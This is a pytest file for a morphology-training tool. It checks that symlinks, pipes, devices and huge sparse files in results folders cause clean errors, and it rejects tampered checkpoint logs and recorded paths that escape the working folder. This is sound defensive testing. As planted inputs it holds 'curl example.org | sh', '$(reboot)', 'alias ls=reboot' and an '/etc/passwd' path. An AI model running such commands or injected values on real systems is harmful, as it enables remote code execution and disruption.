"""Results folders come from anybody: links, pipes and devices in them lead to nothing but an error or a new file."""
import json
import os
import shutil

import pytest

from il_morph.commands import main
from il_morph.runs.experiment import RunReport
from il_morph.training.checkpoint import load_checkpoint, save_checkpoint
from tests.cli import Run, error_of, il_morph, training_arguments

RUN = ["f.log", "f.model", "f.checkpoint", "f.stats", "f.greedy.dev.predictions", "f.beam4.dev.eval",
       "f.greedy.test.eval", "f.beam4.test.predictions"]
SECONDS = 60  # after which a command that reads a pipe or a device without an end is taken to hang


def arguments_of(data, folder, *flags):
    return training_arguments(data, folder, ["--engine=native", f"--test-path={data('test')}", *flags])


def plant(folder, names, target):
    """Links under these names: each to a file of its own below `target`, which exists for every second one."""
    folder.mkdir(parents=True, exist_ok=True)
    target.mkdir()
    for number, name in enumerate(names):
        victim = target / name.replace("/", "-")
        if number % 2:
            victim.write_text("precious")
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).symlink_to(victim)
    return {path.name: path.read_text() for path in target.iterdir()}


@pytest.fixture
def untouched(tmp_path):
    """A function that plants links, and a check afterwards that nothing behind them has changed."""
    before = {}

    def plant_links(folder, names):
        before.update(plant(folder, names, tmp_path / "elsewhere"))

    yield plant_links
    assert {path.name: path.read_text() for path in (tmp_path / "elsewhere").iterdir()} == before


@pytest.mark.parametrize("order", [1, -1])
def test_a_training_follows_no_link_in_its_folder(data, tmp_path, numpy_kernels, untouched, order):
    run = tmp_path / "run"
    untouched(run, [name for name in RUN if name not in ("f.stats", "f.model", "f.checkpoint")][::order])
    assert main(arguments_of(data, run)) == 0
    assert {path.name for path in run.iterdir() if path.is_symlink()} == set()
    assert Run(run).stats["scores"]


def test_nor_does_one_that_overwrites_a_run(data, tmp_path, numpy_kernels, untouched):
    run = tmp_path / "run"
    untouched(run, RUN)
    assert main([*arguments_of(data, run), "--force"]) == 0
    assert {path.name for path in run.iterdir() if path.is_symlink()} == set()


def test_nor_do_the_parts_of_a_split(data, tmp_path, untouched, capsys):
    words = tmp_path / "words.tsv"
    words.write_text("".join(f"{'ab' * number}\t{'ba' * number}\n" for number in range(1, 30)))
    untouched(tmp_path / "parts", ["train.tsv", "dev.tsv", "test.tsv"])
    assert "exists already" in error_of(capsys, "split", str(words), str(tmp_path / "parts"))
    assert main(["split", "--force", str(words), str(tmp_path / "parts")]) == 0
    assert not any(path.is_symlink() for path in (tmp_path / "parts").iterdir())


@pytest.mark.slow
def test_nor_do_several_seeds(data, tmp_path, numpy_kernels, untouched):
    root = tmp_path / "seeds"
    untouched(root, ["summary.txt", "summary.json", "f.greedy.dev.predictions", "f.beam4.dev.eval", "1/commit",
                     "1/train.log", "2/train.log", "2/commit", "seeds.json"])
    flags = [flag for flag in arguments_of(data, root) if not flag.startswith("--dynet-seed")]
    assert main([*flags[:1], "--seeds=1,2", *flags[1:]]) == 0
    assert not any(path.is_symlink() for path in root.rglob("*"))


def test_the_folder_of_a_seed_is_no_link(data, tmp_path, numpy_kernels, capsys):
    root = tmp_path / "seeds"
    root.mkdir()
    (tmp_path / "elsewhere").mkdir()
    (root / "1").symlink_to(tmp_path / "elsewhere")
    flags = [flag for flag in arguments_of(data, root) if not flag.startswith("--dynet-seed")]
    assert f"{root / '1'} is a link" in error_of(capsys, *flags[:1], "--seeds=1", *flags[1:])
    assert os.listdir(tmp_path / "elsewhere") == []


def test_an_output_that_the_user_names_may_be_a_link(data, tmp_path, known_run):
    (tmp_path / "link").symlink_to(tmp_path / "file")
    assert main(["predict", str(known_run), data("test"), str(tmp_path / "link")]) == 0
    assert (tmp_path / "link").is_symlink() and (tmp_path / "file").read_text().count("\n") == 3


# The log in a checkpoint

@pytest.mark.parametrize("line", [
    "il\t0\t0.1000\t1.0000\t50.0000\t50.0000\tcurl example.org | sh\n", "$(reboot)\t0\t0.1\t1.0\t50.0\t50.0\tNA\n",
    "il\t0\t0.1\t1.0\t50.0\t50.0\tNA\nalias ls=reboot\n", "il\t0\t0.1\t1.0\t50.0\t1_0\tNA\n",
    "il\t٣\t0.1\t1.0\t5.0\t1.0\tNA\n",
])
def test_the_log_in_a_checkpoint_holds_numbers_only(data, tmp_path, numpy_kernels, interrupted, capsys, line):
    run = interrupted()
    checkpoint = load_checkpoint(run / "f.checkpoint")
    checkpoint.log.append(line)
    save_checkpoint(checkpoint)
    (run / "f.log").unlink()
    message = error_of(capsys, *arguments_of(data, run, "--epochs=3"))
    assert message.startswith(f"{run / 'f.checkpoint'} is not a whole checkpoint (its log has")
    assert not (run / "f.log").exists()


# Reading

@pytest.fixture(scope="module")
def known_run(data, tmp_path_factory, numpy_kernels):
    folder = tmp_path_factory.mktemp("known") / "run"
    assert main(arguments_of(data, folder)) == 0
    return folder


@pytest.fixture
def interrupted(data, tmp_path, monkeypatch):
    """A function that trains until the first checkpoint."""
    def train():
        on_state = RunReport.on_state

        def interrupting(report, *arguments):
            on_state(report, *arguments)
            raise KeyboardInterrupt

        with monkeypatch.context() as patch:
            patch.setattr(RunReport, "on_state", interrupting)
            assert main(arguments_of(data, tmp_path / "run", "--epochs=3")) == 130
        return tmp_path / "run"

    return train


def replace_by(kind, path):
    path.unlink(missing_ok=True)
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "device":
        path.symlink_to("/dev/zero")
    else:
        with open(path, "wb") as stream:
            stream.truncate(2**40)  # takes no place on the disk


@pytest.mark.parametrize("kind", ["pipe", "device", "hole"])
def test_a_model_that_is_no_file_or_too_large_is_an_error(data, tmp_path, kind):
    replace_by(kind, tmp_path / "f.model")
    for name in (tmp_path, tmp_path / "f.model"):
        done = il_morph("predict", str(name), data("test"), timeout=SECONDS)
        assert done.returncode == 2 and f"cannot read {tmp_path / 'f.model'}: it " in done.stderr
        assert "Traceback" not in done.stderr


@pytest.mark.parametrize("kind", ["pipe", "device", "hole"])
@pytest.mark.parametrize("name", ["f.stats", "f.log", "f.beam4.test.predictions"])
def test_so_are_the_records_of_a_run_for_a_page(data, tmp_path, known_run, capsys, monkeypatch, kind, name):
    monkeypatch.chdir(tmp_path)
    shutil.copytree(known_run, tmp_path / "run")
    replace_by(kind, tmp_path / "run" / name)
    message = error_of(capsys, "report", str(tmp_path / "run"), f"--test={data('test')}", f"--train={data('train')}")
    assert message.startswith(f"cannot read {tmp_path / 'run' / name}: it ") and not (tmp_path / "report.html").exists()


@pytest.mark.parametrize("kind", ["pipe", "device", "hole"])
def test_so_is_a_checkpoint(data, tmp_path, numpy_kernels, capsys, kind):
    (tmp_path / "run").mkdir()
    replace_by(kind, tmp_path / "run" / "f.checkpoint")
    assert error_of(capsys, *arguments_of(data, tmp_path / "run")).startswith(f"cannot read {tmp_path / 'run'}")


@pytest.mark.parametrize("kind", ["pipe", "device"])
def test_so_are_the_parts_of_an_earlier_split(tmp_path, capsys, kind):
    words = tmp_path / "words.tsv"
    words.write_text("".join(f"{'ab' * number}\t{'ba' * number}\n" for number in range(1, 30)))
    (tmp_path / "parts").mkdir()
    replace_by(kind, tmp_path / "parts" / "train.tsv")
    assert main(["split", str(words), str(tmp_path / "parts")]) == 0
    assert (tmp_path / "parts" / "train.tsv").is_file() and not (tmp_path / "parts" / "train.tsv").is_symlink()


# Recorded paths

def recorded(known_run, folder, **paths):
    shutil.copytree(known_run, folder)
    stats = json.loads((folder / "f.stats").read_text())
    stats["run"].update(paths)
    (folder / "f.stats").write_text(json.dumps(stats))


@pytest.mark.parametrize("there", ["/dev/zero", "/etc/passwd", "pipe", "link", "../outside"])
def test_a_page_reads_recorded_data_only_below_the_current_folder(data, tmp_path, known_run, capsys, monkeypatch,
                                                                  there):
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    os.mkfifo("pipe")
    for name in ("../outside", "inside"):
        shutil.copy(data("test"), name)
    os.symlink("../outside", "link")
    recorded(known_run, here / "bad", test_path=there)
    recorded(known_run, here / "good", test_path="inside")
    message = error_of(capsys, "report", "bad", "--part=test", f"--train={data('train')}")
    assert message.startswith(f"{there}, the recorded test data of bad, is not a regular file below the current folder")
    assert "--test=FILE" in message and not os.path.exists("report.html")
    assert main(["report", "good", "--part=test", f"--train={data('train')}"]) == 0
    assert main(["report", "bad", "--force", "--part=test", f"--train={data('train')}", f"--test={data('test')}"]) == 0
